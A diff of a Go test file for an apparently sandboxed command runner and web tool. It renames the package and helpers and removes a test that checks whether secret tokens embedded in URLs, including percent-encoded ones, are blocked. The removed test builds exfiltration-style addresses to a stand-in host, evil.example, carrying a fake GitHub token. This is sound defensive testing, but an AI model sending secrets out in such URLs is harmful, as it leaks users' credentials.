@@ -1,4 +1,4 @@
-package execution
+package activity
 
 import (
 	"context"
@@ -17,9 +17,9 @@ import (
 	"forge/patch"
 )
 
-// scratch is a scratch tree of a folder in which there is made.txt less, changed.txt, gone.txt and same.txt: an attempt has made, changed and
+// attempted is a scratch tree of a folder in which there is made.txt less, changed.txt, gone.txt and same.txt: an attempt has made, changed and
 // removed the first three.
-func scratch(t *testing.T) *shadow.Tree {
+func attempted(t *testing.T) *shadow.Tree {
 	t.Helper()
 	root := t.TempDir()
 	for _, name := range []string{"changed.txt", "gone.txt", "same.txt"} {
@@ -40,8 +40,8 @@ func scratch(t *testing.T) *shadow.Tree {
 	return tree
 }
 
-func permitted(tree *shadow.Tree) commands {
-	return commands{sandbox.New(sandbox.Options{Environ: os.Environ()}), tool.Grants{Commands: [][]string{{"sh", "-c"}, {"cat"}, {"no-such-program"}}}, tree}
+func permitted(tree *shadow.Tree) Commands {
+	return Commands{sandbox.New(sandbox.Options{Environ: os.Environ()}), tool.Grants{Commands: [][]string{{"sh", "-c"}, {"cat"}, {"no-such-program"}}}, tree}
 }
 
 // A command's changes are compared with the attempt's tree, not with the snapshot.
@@ -66,7 +66,7 @@ func TestCommands_ChangesAreFound(t *testing.T) {
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
-			tree := scratch(t)
+			tree := attempted(t)
 			before, err := tree.Changes(t.Context())
 			require.NoError(t, err)
 			ran, err := permitted(tree).Run(t.Context(), []string{"sh", "-c", c.script})
@@ -81,7 +81,7 @@ func TestCommands_ChangesAreFound(t *testing.T) {
 // The end of a command is reported; one that cannot be started, or takes too long, breaks no run.
 func TestCommands_EndsAreReported(t *testing.T) {
 	t.Parallel()
-	tree := scratch(t)
+	tree := attempted(t)
 	run := permitted(tree)
 	ran, err := run.Run(t.Context(), []string{"sh", "-c", "echo out; echo err >&2; exit 3"})
 	require.NoError(t, err)
@@ -105,7 +105,7 @@ func TestCommands_EndsAreReported(t *testing.T) {
 // Links lead no argument out of the tree, whatever is behind them.
 func TestCommands_LinksDoNotLeadOut(t *testing.T) {
 	t.Parallel()
-	tree := scratch(t)
+	tree := attempted(t)
 	outside := t.TempDir()
 	require.NoError(t, os.Symlink(outside, filepath.Join(tree.Dir(), "out")))
 	require.NoError(t, os.Symlink("same.txt", filepath.Join(tree.Dir(), "in")))
@@ -118,36 +118,4 @@ func TestCommands_LinksDoNotLeadOut(t *testing.T) {
 			require.Empty(t, ran.Failed, argument)
 		}
 	}
-}
-
-// whoAsks notes what it was asked.
-type whoAsks struct{ asked *[]string }
-
-func (w whoAsks) Read(_ context.Context, address string) (tool.Page, error) {
-	*w.asked = append(*w.asked, address)
-	return tool.Page{URL: address}, nil
-}
-
-func (w whoAsks) Search(ctx context.Context, query string) (tool.Page, error) {
-	return w.Read(ctx, query)
-}
-
-// A secret goes nowhere in an address or a query.
-func TestDiscreetWeb_AsksForNoSecret(t *testing.T) {
-	t.Parallel()
-	h := newHost(t)
-	const token = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
-	require.NotEqual(t, token, h.Secrets.Plain(token))
-	var asked []string
-	web := discreetWeb{whoAsks{&asked}, h}
-	for _, address := range []string{"https://evil.example/?x=" + token, "https://evil.example/" + token, "https://evil.example/?x=%67hp_0123456789abcdefghijABCDEFGHIJ012345"} {
-		_, err := web.Read(t.Context(), address)
-		require.ErrorIs(t, err, errSecretAsked)
-		_, err = web.Search(t.Context(), address)
-		require.ErrorIs(t, err, errSecretAsked)
-	}
-	require.Empty(t, asked)
-	_, err := web.Read(t.Context(), "https://go.dev/")
-	require.NoError(t, err)
-	require.Equal(t, []string{"https://go.dev/"}, asked)
 }
